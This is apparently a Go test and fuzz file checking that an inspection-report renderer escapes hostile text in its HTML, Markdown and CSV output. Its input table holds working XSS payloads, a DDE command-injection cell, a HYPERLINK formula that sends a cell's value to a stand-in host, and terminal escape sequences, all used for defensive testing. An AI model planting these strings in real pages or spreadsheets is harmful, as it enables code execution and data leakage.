package render_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ilacs-go/inspection/ilacs"
	"github.com/ilacs-go/inspection/ilacs/render"
)

// replaced sets every text of a value, and of what it points to, to another one.
func replaced[T any](v T, text string) T {
	fill(reflect.ValueOf(&v).Elem(), text)
	return v
}

func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			v.SetString(text)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			fill(v.Elem(), text)
		}
	case reflect.Slice:
		for i := range v.Len() {
			fill(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(v.Field(i), text)
			}
		}
	}
}

// hostileTexts are texts that a document might hold, each of which means
// something in one of the formats.
var hostileTexts = map[string]string{
	"all at once":    hostile,
	"unseen":         "a\u00adb\u115fc\u200dd\u034fe\U000e0041f",
	"a script":       `<script>alert("x")</script><img src=x onerror=alert(1)>`,
	"an end":         `</li></ul></section></main><h1>Taken over</h1>`,
	"an attribute":   `" style="display:none" onmouseover='alert(1)'`,
	"a template":     `{{.Name}} {{template "grid"}} ${x} <%= y %>`,
	"a formula":      `=HYPERLINK("http://inspection.example/?"&A1,"open")`,
	"a plus":         `+1+cmd|' /C calc'!A0`,
	"a minus":        `-2+3`,
	"an at sign":     `@SUM(1+1) someone@inspection.example`,
	"a tab":          "\t=1+1",
	"a return":       "\r=1+1",
	"a wide sign":    `＝1+1`,
	"emphasis":       `**bold** _low_ ~~gone~~ $x^2$`,
	"a link":         `[click](http://inspection.example) ![img](x.png) <http://inspection.example> www.inspection.example`,
	"a heading":      "# one\n## two\nunder\n=====\nunder\n-----",
	"lists":          ": z\n- a\n+ b\n* c\n1. d\n2) e\n10. f",
	"lists in lines": strings.Repeat("words that fill the line until it must break at last and then - + 1. 2) # > --- === ", 12),
	"quotes":         "> a\n>> b",
	"fences":         "``` ```` ````` ~~~ `code`",
	"a table":        "a | b\n--- | ---\nc | d\n" + strings.Repeat("head ", 14) + "---: ",
	"references":     `&lt;b&gt; &#60;script&#62; AT&T Q & A &000;`,
	"a terminal":     "\x1b[31mred\x1b[0m \x07 \x9b2J \u202eback\u202c",
	"no text":        "\xff\xfe\x00 \ufffd \u2028 \u2029",
	"backslashes":    `\*not bold\* \\ \`,
	"a long word":    strings.Repeat("x", 300),
}

func TestProgressTextIsNoMarkup(t *testing.T) {
	t.Parallel()
	plain, _ := wellFormed(t, forms(t, replaced(wexcombeOverYears(t), "plain"), "plain")["history.html"])
	for name, text := range hostileTexts {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			all := forms(t, replaced(wexcombeOverYears(t), text), text)
			elements, _ := wellFormed(t, all["history.html"])
			if tidy(text) == "" { // there is no element for an empty text
				elements["span"], elements["p"] = plain["span"], plain["p"]
			}
			assert.Equal(t, plain, elements, "the text made elements of its own")
			for _, form := range []string{"progress.md", "history.md"} {
				md := all[form]
				assert.NotContains(t, md, "\x1b")
				assert.Equal(t, 2*strings.Count(form, "history")+1*strings.Count(form, "progress"), strings.Count(md, "## From"), "headings")
				for line := range strings.Lines(md) {
					assert.NotRegexp(t, `^ *(>|\* |[0-9]+\) |#[^# ]|(-+|=+) *$)`, strings.Replace(line, "---\n", "", 1))
				}
			}
			for _, form := range []string{"brief.md", "history-brief.md"} {
				assert.NotContains(t, all[form], "\x1b")
				for line := range strings.Lines(all[form]) {
					assert.NotRegexp(t, `^ *(>|\* |[0-9]+\) |#[^# ]|(-+|=+) *$)`, strings.Replace(line, "---\n", "", 1))
				}
			}
			for _, form := range []string{"follow-ups.csv", "themes.csv"} {
				assertHarmless(t, all[form])
			}
		})
	}
}

func assertHarmless(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll() // all of one width
	require.NoError(t, err)
	require.Greater(t, len(rows), 1)
	for _, row := range rows {
		for _, cell := range row {
			assert.NotRegexp(t, `^[=+\-@\t\r\n＝＋－＠]`, cell)
		}
	}
}

// tidy is what each format makes of a text before it escapes it: one line of
// characters that can be seen.
func tidy(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case unicode.IsControl(r) || r == '\u2028' || r == '\u2029':
			b.WriteByte(' ')
		case r == '\u200c' || r == '\u200d': // they make one sign of several
			b.WriteRune(r)
		case unicode.Is(unicode.Cf, r) && !unicode.Is(unicode.Prepended_Concatenation_Mark, r),
			unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r), strings.ContainsRune("\ufffd\ufffe\uffff", r):
		case r > 0xffff && r&0xfffe == 0xfffe:
		default:
			b.WriteRune(r)
		}
	}
	return strings.Join(strings.Fields(b.String()), " ")
}

// FuzzProgressText checks that a text comes back from each format as it was, and
// is nothing but text there.
func FuzzProgressText(f *testing.F) {
	for _, text := range hostileTexts {
		f.Add(text)
	}
	var page bytes.Buffer
	if err := render.ProgressHTML(&page, replaced(wexcombe(f), "plain")); err != nil {
		f.Fatal(err)
	}
	elements := strings.Count(page.String(), "<")
	f.Fuzz(func(t *testing.T, text string) {
		p := wexcombe(t)
		marked := "Begun " + text + " ended"
		p.FollowUps[1].Evidence[0].Text = marked
		want := tidy(marked)

		var b bytes.Buffer
		if err := render.ProgressMarkdown(&b, p); err != nil {
			t.Fatal(err)
		}
		from, to := strings.Index(b.String(), "“Begun"), strings.LastIndex(b.String(), "ended”")
		if from < 0 || to < from {
			t.Fatalf("no quotation in %q", b.String())
		}
		got, unescaped := readMarkdown(b.String()[from+len("“") : to])
		if got = strings.Join(strings.Fields(got+" ended"), " "); got != want {
			t.Errorf("Markdown gives %q for %q", got, want)
		}
		if unescaped {
			t.Errorf("markup in %q", b.String()[from:to])
		}

		b.Reset()
		if err := render.FollowUpsCSV(&b, p, replaced(wexcombe(t), text)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if cell := rows[2][13]; cell != want {
			t.Errorf("CSV gives %q for %q", cell, want)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
					t.Errorf("a formula: %q", cell)
				}
			}
		}

		b.Reset()
		if err := render.ProgressHTML(&b, replaced(wexcombe(t), text)); err != nil {
			t.Fatal(err)
		}
		if strings.TrimSpace(tidy(text)) != "" && strings.Count(b.String(), "<") != elements {
			t.Errorf("elements for %q", text)
		}
	})
}

var (
	reference = regexp.MustCompile(`^&(#[0-9]|#[xX]|[a-zA-Z][a-zA-Z0-9]*;)`)
	lineMark  = regexp.MustCompile(`^(\+|[0-9]+[.)]|[-=:]+)( |$)`)
)

var references = strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&")

// readMarkdown reads a running text of Markdown, and reports whether anything in
// it is more than text.
func readMarkdown(s string) (text string, markup bool) {
	for line := range strings.Lines(s) {
		line = strings.TrimSpace(line)
		if lineMark.MatchString(line) {
			markup = true
		}
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		next, _ := utf8.DecodeRuneInString(s[i+n:])
		switch {
		case r == '\\' && next < utf8.RuneSelf && unicode.In(next, unicode.P, unicode.S):
			b.WriteRune(next)
			i += n + 1
			continue
		case r == '&':
			for _, ref := range []string{"&lt;", "&gt;", "&amp;"} {
				if strings.HasPrefix(s[i:], ref) {
					b.WriteString(references.Replace(ref))
					i += len(ref)
					n = 0
					break
				}
			}
			if n > 0 {
				markup = markup || reference.MatchString(s[i:])
				b.WriteRune(r)
			}
		case strings.ContainsRune("\\`*_[]<>|~$#@", r):
			markup = true
			b.WriteRune(r)
		default:
			if strings.HasPrefix(s[i:], "://") || strings.HasPrefix(strings.ToLower(s[i:]), "www.") {
				markup = true
			}
			b.WriteRune(r)
		}
		i += n
	}
	return b.String(), markup
}

// TestReplacedReachesEveryText checks that the tests above can fail.
func TestReplacedReachesEveryText(t *testing.T) {
	t.Parallel()
	p := replaced(wexcombeOverYears(t), "xyzzy").Progresses[1]
	assert.Equal(t, "xyzzy", p.Judgements[0].SaidAfter.Text)
	assert.Equal(t, "xyzzy", p.Themes[0].BestAfter.Text)
	assert.Equal(t, "xyzzy", p.After.Focus[0])
	assert.Equal(t, ilacs.VisitTypeFocused, p.After.Type)
	_, markup := readMarkdown("a *b*")
	assert.True(t, markup)
	_, markup = readMarkdown("a\n- b")
	assert.True(t, markup)
}
